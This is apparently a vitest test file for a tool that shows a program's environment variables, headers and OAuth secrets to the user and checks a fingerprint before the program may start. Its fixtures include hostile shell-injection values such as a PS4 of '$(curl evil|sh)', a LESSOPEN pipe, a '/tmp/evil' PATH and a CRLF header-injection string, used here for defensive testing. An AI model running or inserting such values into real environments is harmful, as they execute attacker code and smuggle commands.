import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Server } from '../../contract/servers.ts'
import {
  callText,
  closeAll,
  fixture,
  livingWith,
  node,
  type SetUp,
  server,
  setUp,
  stdio,
  until,
} from '../testing/setup.ts'
import { checkVariables } from './check-add.ts'

let at: SetUp
beforeEach(() => {
  at = setUp({ start: 4_000, firstBackoff: 30 })
})
afterEach(closeAll)

const shown = (server: Server) =>
  Object.fromEntries((server.values ?? []).map(({ name, text }) => [name, text]))
const readable = (text: string) => at.redactor.text(text) === text

it('shows every value of a program’s draft before anything of it runs, and hides secrets only', async () => {
  const env = {
    ...{
      SHELLOPTS: 'xtrace',
      PS4: '$(curl evil|sh)',
      LESSOPEN: '|evil %s',
      PATH: '/tmp/evil',
      NODE_ENV: 'x',
    },
    ...{ API_KEY: 'sk-1234567', OTHER_KEY: '$(evil)', EVIL_TOKEN: '/tmp/evil.so', A_SECRET: 'two\nlines' },
  }
  const draft = await at.servers.draft(stdio('Draft', [fixture], { env }))
  expect(shown(draft)).toEqual({ ...env, API_KEY: '••••••' })
  expect(draft.values!.filter(({ masked }) => masked).map(({ name }) => name)).toEqual(['API_KEY'])
  // Also in another life of the host.
  const later = at.create()
  await until(() => later.list()[0]!.values !== null)
  expect(shown(later.list()[0]!)).toEqual({ ...env, API_KEY: '••••••' })
})

it('shows headers, and the secret of a client registered by hand', async () => {
  const draft = await at.servers.draft({
    ...{ kind: 'http', name: 'Far', url: 'http://127.0.0.1:9/mcp', timeout: 30_000 },
    headers: { Authorization: 'Bearer abc-def', 'X-Forwarded-Host': 'evil.example', 'X-Api-Key': 'a b' },
    oauth: { clientId: 'me', clientSecret: 'client/secret', scopes: ['all'] },
  })
  expect(shown(draft)).toEqual({
    ...{ Authorization: 'Bearer ••••••', 'X-Forwarded-Host': 'evil.example', 'X-Api-Key': 'a b' },
    client_secret: 'client/secret',
  })
  expect(draft.oauth).toEqual({ clientId: 'me', scopes: ['all'] })
})

it('learns nothing of a draft for redaction before its owner started it', async () => {
  const value = 'rm -rf the whole home folder'
  const draft = await at.servers.draft(stdio('Draft', [fixture], { env: { WORDS: value, A_KEY: 'approve' } }))
  const far = await at.servers.draft({
    ...{ kind: 'http', name: 'Far', url: 'http://127.0.0.1:9/mcp', timeout: 30_000 },
    ...{
      headers: { 'X-Words': 'delete everything' },
      oauth: { clientId: 'me', clientSecret: 'another secret' },
    },
  })
  const later = at.create()
  await until(() => later.list().every(({ values }) => values !== null))
  for (const text of [value, 'approve', 'delete everything', 'another secret'])
    expect(readable(text)).toBe(true)

  await at.servers.start(draft.id, draft.fingerprint)
  expect([readable(value), readable('approve')]).toEqual([false, false])
  expect(at.servers.list()[0]).toMatchObject({ state: 'running', values: null })
  expect(JSON.parse(await callText(at.servers, 'draft', 'env')).WORDS).toBe(value)
  expect([...at.secrets.keys()].filter((name) => name.startsWith(`draft/${draft.id}`))).toEqual([])
  await at.servers.start(far.id, far.fingerprint)
  expect([readable('delete everything'), readable('another secret')]).toEqual([false, false])
  expect(at.secrets.get(`server/${far.id}/oauth/secret`)).toBe('another secret')
})

it('starts only with the values that were shown, masked ones too', async () => {
  const draft = await at.servers.draft(stdio('Draft', [fixture], { env: { API_KEY: 'first', OTHER: 'x' } }))
  const seen = draft.fingerprint
  const start = (fingerprint?: string) => at.servers.start(draft.id, fingerprint)
  for (const [name, other] of [
    ['API_KEY', 'second'],
    ['OTHER', 'y'],
  ] as const) {
    const path = `draft/${draft.id}/env/${name}`
    const before = at.secrets.get(path)!
    at.secrets.set(path, other)
    await expect(start(seen)).rejects.toMatchObject({ code: 'draft-not-seen' })
    expect(at.servers.list()[0]!.fingerprint).not.toBe(seen)
    at.secrets.set(path, before)
  }
  // The same values in the places of one another are others.
  const edit = { id: draft.id, kind: 'stdio' as const, name: 'Draft', command: node, args: [fixture] }
  const edited = await at.servers.edit({ ...edit, env: { API_KEY: null, OTHER: 'z' } })
  expect(edited).toMatchObject({
    state: 'draft',
    values: [{ name: 'API_KEY' }, { name: 'OTHER', text: 'z' }],
  })
  await expect(start(seen)).rejects.toMatchObject({ code: 'draft-not-seen' })
  expect(at.servers.list()[0]!.state).toBe('draft')
  expect(await start(edited.fingerprint)).toMatchObject({ state: 'running' })
  expect(JSON.parse(await callText(at.servers, 'draft', 'env'))).toMatchObject({
    API_KEY: 'first',
    OTHER: 'z',
  })
})

it('does not start a draft whose values the vault does not say', async () => {
  const draft = await at.servers.draft(stdio('Draft', [fixture], { env: { OTHER: 'x' } }))
  const { get } = at.vault
  at.vault.get = () => Promise.reject(new Error('locked'))
  const later = at.create()
  await new Promise((done) => setTimeout(done, 20))
  const [locked] = later.list()
  expect(locked).toMatchObject({ state: 'draft', values: null })
  for (const seen of [locked!.fingerprint, draft.fingerprint])
    await expect(later.start(draft.id, seen)).rejects.toMatchObject({ code: 'draft-not-seen' })
  at.vault.get = get
  await expect(later.start(draft.id, locked!.fingerprint)).rejects.toMatchObject({ code: 'draft-not-seen' })
  expect(shown(later.list()[0]!)).toEqual({ OTHER: 'x' })
  expect(await later.start(draft.id, later.list()[0]!.fingerprint)).toMatchObject({ state: 'running' })
})

it('leaves nothing of a removed draft in the vault', async () => {
  const draft = await at.servers.draft(stdio('Draft', [fixture], { env: { OTHER: 'x' } }))
  expect([...at.secrets.keys()]).toEqual([`draft/${draft.id}/env/OTHER`])
  await at.servers.remove(draft.id)
  expect([...at.secrets.keys()]).toEqual([])
})

it('refuses names and values that the program would get as something else', async () => {
  const refused = async (more: object) =>
    expect(at.servers.draft(stdio('Draft', [fixture], more))).rejects.toMatchObject({
      code: 'server-invalid',
    })
  for (const name of ['', 'A=B', 'A\0', 'A B', '1A', '=', 'A-B', 'Ä', '__proto__'])
    await refused({ env: Object.fromEntries([[name, 'x']]) })
  for (const value of ['a\0b', 'half \ud800 a letter']) {
    await refused({ env: { NAME: value } })
    await refused({ args: [value] })
  }
  const far = { kind: 'http' as const, name: 'Far', url: 'http://127.0.0.1:9/', timeout: 30_000 }
  const notSent: Record<string, string>[] = [
    { 'X-A': '1', 'x-a': '2' },
    { 'X-A ': '1', 'X-A': '2' },
    { 'X-A': 'a\r\nX-B: c' },
  ]
  for (const headers of notSent)
    await expect(at.servers.draft({ ...far, headers })).rejects.toMatchObject({ code: 'server-invalid' })
  expect(() => checkVariables({ Path: 'a', PATH: 'b' }, 'win32')).toThrow('there twice')
  expect(() => checkVariables({ http_proxy: 'a', HTTP_PROXY: 'b' }, 'linux')).not.toThrow()
  expect(at.servers.list()).toEqual([])
})

describe('a draft', () => {
  it('starts nothing before somebody has seen exactly what it is', async () => {
    const draft = await at.servers.draft(stdio('Draft', [fixture, 'draft-mark'], { env: { SECRET: 'abc' } }))
    expect(draft).toMatchObject({ state: 'draft', env: ['SECRET'], tools: 0, startedAt: null })
    expect(at.servers.sources()).toEqual([])
    const refused = { code: 'draft-not-seen' }
    await expect(at.servers.start(draft.id)).rejects.toMatchObject(refused)
    await expect(at.servers.start(draft.id, 'x'.repeat(43))).rejects.toMatchObject(refused)
    await expect(at.servers.restart(draft.id)).rejects.toMatchObject(refused)
    expect((await at.servers.stopServer(draft.id)).state).toBe('draft')
    await at.servers.startAll()
    await at.servers.stop()
    const next = at.create()
    await next.startAll()
    expect(server(next, 'Draft').state).toBe('draft')
    expect(livingWith('draft-mark')).toEqual([])

    const started = await next.start(draft.id, draft.fingerprint)
    // The values are the user's from here on, so it stands for the rest.
    expect(started).toMatchObject({ state: 'running', values: null })
    expect(next.sources()).toHaveLength(1)
    // It is like any other from now on.
    expect((await next.stopServer(draft.id)).state).toBe('stopped')
    expect((await next.start(draft.id)).state).toBe('running')
  })

  it('has a fingerprint that stands for all that would be started', async () => {
    const fingerprints = new Set<string>()
    const input = stdio('Same', [fixture, 'a'], { env: { A: '1' } })
    for (const change of [{}, { args: [fixture, 'b'] }, { env: { B: '1' } }, { cwd: at.dir }]) {
      const { id, fingerprint } = await at.servers.draft({ ...input, ...change })
      fingerprints.add(fingerprint)
      await at.servers.remove(id)
    }
    expect(fingerprints.size).toBe(4)
    expect(at.secrets.size).toBe(0)
  })
})
